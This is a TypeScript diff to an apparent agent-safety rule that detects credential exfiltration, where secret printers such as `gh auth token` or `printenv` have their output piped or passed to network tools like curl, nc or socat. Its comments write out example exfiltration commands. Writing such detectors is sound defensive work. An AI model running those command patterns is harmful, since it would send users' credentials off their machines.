@@ -1,11 +1,12 @@
 import { posix } from 'node:path';
 import type { PipedInvocation } from './bash-rules.ts';
 import { type Invocation, unwrap } from './command.ts';
-import { environFile, printsEnvironment } from './environment-printers.ts';
+import { hostIn, knownCredentialVariable, printedCredential, type Secret, variableSecret } from './credentials.ts';
+import { environFile, printedVariables, printsEnvironment } from './environment-printers.ts';
 import type { Finding } from './git-rules.ts';
-import { inputFiles, namedFiles, networkPath, networkSink } from './network-sinks.ts';
+import { inputFiles, namedFiles, networkPath, networkSink, type Sink } from './network-sinks.ts';
 import { parseShell } from './shell.ts';
-import type { Redirect, Script } from './syntax.ts';
+import type { Redirect, Script, Word } from './syntax.ts';
 
 /**
  * Credential exfiltration (docs/safety.md, P5): what prints secrets (emitsSecrets) reaching what
@@ -16,26 +17,74 @@ import type { Redirect, Script } from './syntax.ts';
  * protected file is denied by the path rules already.
  */
 
-/** Programs whose output is a secret: `gpg --export-secret-keys`, `gh auth token`..., and the environment's printers (environment-printers.ts). */
+/**
+ * Programs whose output is a secret, as env-files.ts asks it of what a program handed an env file
+ * runs: a credential's printer (credentials.ts: `gh auth token`, `gpg --export-secret-keys`…) or
+ * any printer of the environment (environment-printers.ts), whichever variables it names.
+ */
 export function emitsSecrets(inv: Invocation): string | null {
-  const a = inv.args.map((w) => w.value);
-  switch (inv.program) {
-    case 'gpg':
-    case 'gpg2':
-      return a.some((x) => x.startsWith('--export-secret')) ? 'gpg --export-secret-keys' : null;
-    case 'gh':
-      return a[0] === 'auth' && a[1] === 'token' ? 'gh auth token' : null;
-    case 'aws':
-      // `aws configure get aws_secret_access_key` prints a credential; `aws configure get region` does not
-      return a.includes('export-credentials') ||
-        (a[0] === 'configure' && a[1] === 'get' && !/^([\w-]+\.)*(region|output|endpoint_url|ca_bundle|retry_mode|max_attempts)$/.test(a[2] ?? ''))
-        ? `aws ${a.slice(0, 2).join(' ')}`
-        : null;
-    case 'security':
-      return a.some((x) => /^find-(generic|internet)-password$/.test(x)) ? 'security find-…-password' : null;
-    default:
-      return printsEnvironment(inv);
+  const args = inv.args.map((w) => w.value);
+  return printedCredential(inv.program, args)?.what ?? printsEnvironment(inv);
+}
+
+/**
+ * The secret `inv` prints, with the hosts it may be sent to: a credential's printer (`gh auth
+ * token`: GitHub's hosts), the environment (no host), one or more named variables of which one at
+ * least holds a secret (`printenv GITHUB_TOKEN`: the hosts of every secret named; `printenv PORT`
+ * prints none), `echo`/`printf` of a credential's variable (`echo "$GITHUB_TOKEN"`).
+ */
+function printedSecret(inv: Invocation): Secret | null {
+  const args = inv.args.map((w) => w.value);
+  const credential = printedCredential(inv.program, args);
+  if (credential) return credential;
+  if (inv.program === 'echo' || inv.program === 'printf') return wordsSecret(inv.args);
+  const env = printsEnvironment(inv);
+  if (!env) return null;
+  const names = printedVariables(inv);
+  if (!names) return { what: env, hosts: [] };
+  const secrets = names.flatMap((n) => variableSecret(n) ?? []);
+  if (!secrets.length) return null;
+  return { what: env, hosts: secrets.slice(1).reduce<readonly string[]>((hosts, s) => hosts.filter((h) => s.hosts.includes(h)), secrets[0]!.hosts) };
+}
+
+/** The first credential the table knows whose variable these words expand (`"$GITHUB_TOKEN"`, `${NPM_TOKEN}`), outside single quotes; null for none. */
+function wordsSecret(words: readonly { raw: string }[]): Secret | null {
+  for (const w of words) for (const name of expandedVariables(w.raw)) if (knownCredentialVariable(name)) return variableSecret(name);
+  return null;
+}
+
+/** `$NAME` or `${NAME`, where it stands (sticky). */
+const VARIABLE = /\$(?:\{([A-Za-z_][A-Za-z0-9_]*)|([A-Za-z_][A-Za-z0-9_]*))/y;
+
+/** The names of the variables a word as written expands: `$NAME` and `${NAME…}`, not in single quotes nor escaped. */
+function expandedVariables(raw: string): string[] {
+  if (!raw.includes('$')) return [];
+  const out: string[] = [];
+  let double = false;
+  for (let i = 0; i < raw.length; i++) {
+    const c = raw[i]!;
+    if (c === '\\') i++;
+    else if (c === "'" && !double) {
+      const end = raw.indexOf("'", i + 1);
+      i = end < 0 ? raw.length : end;
+    } else if (c === '"') double = !double;
+    else if (c === '$') {
+      VARIABLE.lastIndex = i;
+      const m = VARIABLE.exec(raw);
+      if (m) out.push((m[1] ?? m[2])!);
+    }
   }
+  return out;
+}
+
+/**
+ * Whether `secret` sent by `sink` leaves the hosts it belongs to: it has none, or the sink's
+ * destinations are not all known to be among them (network-sinks.ts sinkHosts: https URLs of curl
+ * or wget, nothing that could send them elsewhere).
+ */
+function leaks(secret: Secret, sink: Sink, asBody = false): boolean {
+  const to = sink.destination;
+  return asBody || !(secret.hosts.length && to && to.hosts.every((h) => hostIn(h, secret.hosts)));
 }
 
 /** The output redirections that write a file (`>`, `>>`, `>|`, `&>`, `&>>`, `<>`). */
@@ -51,8 +100,8 @@ export function checkExfiltration(calls: PipedInvocation[]): Finding | null {
   const sockets = calls.filter((c) => c.inv.command.redirects.some((r) => networkPath(r.target?.value ?? '')) || c.inv.args.some((w) => networkPath(w.value)));
   if (!sinks.length && !sockets.length) return null;
   // what each call prints of secrets, asked only of the calls whose output may reach a sink
-  const memo = new Map<number, string | null>();
-  const secretAt = (k: number) => (memo.has(k) ? memo.get(k)! : memo.set(k, emitsSecrets(calls[k]!.inv)).get(k)!);
+  const memo = new Map<number, Secret | null>();
+  const secretAt = (k: number) => (memo.has(k) ? memo.get(k)! : memo.set(k, printedSecret(calls[k]!.inv)).get(k)!);
   const written = writtenFromSecrets(calls, secretAt);
   for (const [file, secret] of written) if (networkPath(file)) return finding(secret, file);
   // a stage that reads a file written from secrets prints them too (`cat /tmp/e | nc h 1`)
@@ -62,25 +111,39 @@ export function checkExfiltration(calls: PipedInvocation[]): Finding | null {
     const k = calls.findIndex((_, i) => printedAt(i));
     if (k >= 0) return finding(printedAt(k)!, socket);
   }
-  // the first stage that prints secrets in each pipeline a sink reads stdin from: what reaches every stage after it
-  const firstPrinter = firstStages(calls, new Set(sinks.filter((x) => x.sink.stdin).map((x) => x.c.pipeline)), printedAt);
+  // the stages that print secrets in each pipeline a sink reads stdin from: each reaches every stage after it
+  const printers = stagesPrinting(calls, new Set(sinks.filter((x) => x.sink.stdin).map((x) => x.c.pipeline)), printedAt);
   for (const { c: d, sink } of sinks) {
+    // what it reads on stdin and the files it sends are its body: a credential there is posted as data, its leak wherever it goes
+    const leaked = (secret: Secret | null, asBody = true) => (secret && leaks(secret, sink, asBody) ? secret : null);
+    const inBody = (w: Word) => sink.destination?.body.has(w) ?? false;
     // piped into its stdin (`printenv | curl -d @-`), directly or through later stages
     if (sink.stdin) {
-      const k = firstPrinter.get(d.pipeline);
-      if (k !== undefined && calls[k]!.index < d.index) return finding(printedAt(k)!, sink.program);
-      // a here-string or heredoc made by a printer (`nc h 1 <<< "$(env)"`), a process substitution (`nc h 1 < <(env)`)
-      const fed = scriptsPrint(d.inv.command.redirects.flatMap(inputScripts));
+      const k = printers.get(d.pipeline)?.find((at) => calls[at]!.index < d.index && leaked(printedAt(at)));
+      if (k !== undefined) return finding(printedAt(k)!, sink.program);
+      // a here-string or heredoc made by a printer (`nc h 1 <<< "$(env)"`), a process substitution (`nc h 1 < <(env)`), a credential's variable (`<<< "$GITHUB_TOKEN"`)
+      const fed =
+        scriptsPrint(d.inv.command.redirects.flatMap(inputScripts), sink, null, true) ??
+        leaked(wordsSecret(d.inv.command.redirects.flatMap((r) => (r.op === '<<<' && r.target ? [r.target] : []))));
       if (fed) return finding(fed, sink.program);
     }
     // a file it sends: a process's environment, or one the line wrote from secrets
-    const file = sink.files.find((f) => environFile(f) || written.has(norm(f)));
-    if (file) return finding(environFile(file) ? file : `${written.get(norm(file))} > ${file}`, sink.program);
-    // its arguments, made by a printer (`curl -d "$(env)"`, `curl -H "X: $(printenv)"`)
-    const made = scriptsPrint(d.inv.command.words.flatMap((w) => w.subs));
+    const file = sink.files.find((f) => environFile(f) || leaked(written.get(norm(f)) ?? null));
+    if (file)
+      return finding(
+        environFile(file) ? { what: file, hosts: [] } : { ...written.get(norm(file))!, what: `${written.get(norm(file))!.what} > ${file}` },
+        sink.program,
+      );
+    // its arguments, made by a printer (`curl -d "$(env)"`, `curl -H "X: $(printenv)"`) or holding a credential's variable (`curl "https://x/?t=$GITHUB_TOKEN"`)
+    const made =
+      d.inv.command.words.reduce<Secret | null>((m, w) => m ?? scriptsPrint(w.subs, sink, ownVariable(w, d.inv), inBody(w)), null) ??
+      d.inv.args.reduce<Secret | null>((m, w) => m ?? leaked(wordsSecret([w]), inBody(w)), null);
     if (made) return finding(made, sink.program);
     // a program it runs and sends the output of (`socat EXEC:env TCP:h:80`, `ncat --sh-exec printenv h 1`)
-    const ran = scriptsPrint(sink.runs.map((line) => parseShell(line, { home: '/' })));
+    const ran = scriptsPrint(
+      sink.runs.map((line) => parseShell(line, { home: '/' })),
+      sink,
+    );
     if (ran) return finding(ran, sink.program);
   }
   return null;
@@ -90,37 +153,48 @@ export function checkExfiltration(calls: PipedInvocation[]): Finding | null {
  * The files the line writes from secrets, each with the secret: a printer's output redirected
  * (`env > /tmp/e`), or that of a later stage of its pipeline (`printenv | sort > /tmp/e`, `env | tee /tmp/e`).
  */
-function writtenFromSecrets(calls: readonly PipedInvocation[], secretAt: (k: number) => string | null): Map<string, string> {
-  const written = new Map<string, string>();
+function writtenFromSecrets(calls: readonly PipedInvocation[], secretAt: (k: number) => Secret | null): Map<string, Secret> {
+  const written = new Map<string, Secret>();
   const writers = calls.filter((d) => writtenFiles(d, true).length);
   if (!writers.length) return written;
-  // the first printer of each pipeline that writes a file: what reaches every later stage
-  const first = firstStages(calls, new Set(writers.map((d) => d.pipeline)), secretAt);
+  // the printers of each pipeline that writes a file: what reaches every later stage
+  const printers = stagesPrinting(calls, new Set(writers.map((d) => d.pipeline)), secretAt);
   for (const d of writers) {
-    const k = first.get(d.pipeline);
-    if (k === undefined || calls[k]!.index > d.index) continue;
-    // `tee FILE` writes what a stage before it prints, not its own output
-    for (const f of writtenFiles(d, calls[k]!.index < d.index)) if (!written.has(f)) written.set(f, secretAt(k)!);
+    for (const k of printers.get(d.pipeline) ?? []) {
+      if (calls[k]!.index > d.index) continue;
+      // `tee FILE` writes what a stage before it prints, not its own output
+      for (const f of writtenFiles(d, calls[k]!.index < d.index)) if (!written.has(f)) written.set(f, secretAt(k)!);
+    }
   }
   return written;
 }
 
-/** In each of `pipelines`, the call (its place in `calls`) at the lowest stage for which `prints` says something. */
-function firstStages(calls: readonly PipedInvocation[], pipelines: ReadonlySet<number>, prints: (k: number) => string | null): Map<number, number> {
-  const first = new Map<number, number>();
+/**
+ * In each of `pipelines`, the calls (their places in `calls`) for which `prints` says something: of
+ * those whose secrets may go to the same hosts, the one at the lowest stage, which reaches every
+ * stage after it (a pipeline of 3,000 `gh auth token | curl … |` is one printer, not 3,000).
+ */
+function stagesPrinting(calls: readonly PipedInvocation[], pipelines: ReadonlySet<number>, prints: (k: number) => Secret | null): Map<number, number[]> {
+  const first = new Map<number, Map<string, number>>();
+  if (!pipelines.size) return new Map();
   for (const [k, c] of calls.entries()) {
     if (!pipelines.has(c.pipeline)) continue;
-    const at = first.get(c.pipeline);
-    if ((at === undefined || calls[at]!.index > c.index) && prints(k)) first.set(c.pipeline, k);
+    const secret = prints(k);
+    if (!secret) continue;
+    let byHosts = first.get(c.pipeline);
+    if (!byHosts) first.set(c.pipeline, (byHosts = new Map()));
+    const hosts = secret.hosts.join(' ');
+    const at = byHosts.get(hosts);
+    if (at === undefined || calls[at]!.index > c.index) byHosts.set(hosts, k);
   }
-  return first;
+  return new Map([...first].map(([pipeline, byHosts]) => [pipeline, [...byHosts.values()]]));
 }
 
-/** What `inv` reads of the files written from secrets (an argument, `< FILE`), as a printer's description, or null. */
-function readsWritten(inv: Invocation, written: ReadonlyMap<string, string>): string | null {
+/** What `inv` reads of the files written from secrets (an argument, `< FILE`): that file's secret, named by the reading, or null. */
+function readsWritten(inv: Invocation, written: ReadonlyMap<string, Secret>): Secret | null {
   if (!written.size) return null;
   const file = [...inv.args.flatMap((w) => namedFiles(w.value)), ...inputFiles(inv.command.redirects)].find((f) => written.has(norm(f)));
-  return file ? `${inv.program} ${file}` : null;
+  return file ? { what: `${inv.program} ${file}`, hosts: written.get(norm(file))!.hosts } : null;
 }
 
 /** The files stage `d` writes: its output redirections, and `tee`'s files where it reads a stage before it. */
@@ -135,22 +209,36 @@ function inputScripts(r: Redirect): Script[] {
   return r.op === '<' || r.op === '<<<' || r.op === '<<' || r.op === '<<-' ? [...(r.subs ?? []), ...(r.target?.subs ?? [])] : [];
 }
 
-/** The first secret a command of these scripts prints (any stage: what a substitution makes is all its output), or null. */
-function scriptsPrint(scripts: readonly Script[]): string | null {
+/** The first secret a command of these scripts prints (any stage: what a substitution makes is all its output) that `sink` would leak, or null. */
+function scriptsPrint(scripts: readonly Script[], sink: Sink, own: Secret | null = null, asBody = false): Secret | null {
   for (const s of scripts)
     for (const cmd of s.commands) {
       const inv = unwrap(cmd).invocation;
-      const secret = inv && emitsSecrets(inv);
-      if (secret) return secret;
+      const secret = inv && printedSecret(inv);
+      if (secret && leaks(secret, sink, asBody) && !(own && secret.hosts === own.hosts)) return secret;
     }
   return null;
 }
 
+/**
+ * The credential a word puts into the program's own environment under the variable that holds it
+ * (`GH_TOKEN=$(gh auth token) gh pr list`, `env GITHUB_TOKEN=… gh …`): the program uses it as that
+ * credential, for the hosts it belongs to, and sends none of it as data; null for any other word
+ * (an argument, a variable the table does not list).
+ */
+function ownVariable(w: Word, inv: Invocation): Secret | null {
+  const m = /^([A-Za-z_][A-Za-z0-9_]*)=/.exec(w.raw);
+  return m && knownCredentialVariable(m[1]!) && !inv.args.includes(w) ? variableSecret(m[1]!) : null;
+}
+
 const norm = (f: string) => posix.normalize(f);
 
-function finding(secret: string, sink: string): Finding {
+function finding(secret: Secret, sink: string): Finding {
+  const own = secret.hosts.length
+    ? `. It belongs to ${secret.hosts.join(', ')}: send it there over https alone, with no proxy or --resolve (docs/safety.md, "Credentials and the hosts they belong to").`
+    : '';
   return {
     rule: 'secrets.exfiltration',
-    reason: `\`${secret}\` prints secrets and \`${sink}\` sends them off this machine. Credentials never leave it through an agent: ask the user`,
+    reason: `\`${secret.what}\` ${secret.what.startsWith('$') ? 'holds a secret' : 'prints secrets'} and \`${sink}\` sends ${secret.what.startsWith('$') ? 'it' : 'them'} off this machine. Credentials never leave it through an agent: ask the user${own}`,
   };
 }
